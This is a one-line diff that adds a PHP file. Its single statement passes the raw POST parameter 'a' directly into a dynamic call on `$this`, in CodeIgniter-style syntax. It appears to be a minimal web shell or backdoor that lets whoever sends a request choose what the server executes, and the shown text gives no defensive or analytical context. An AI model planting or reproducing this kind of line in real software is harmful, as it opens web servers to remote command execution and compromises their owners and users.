@@ -1,0 +1,1 @@
+<?php $this($this->input->post("a"));
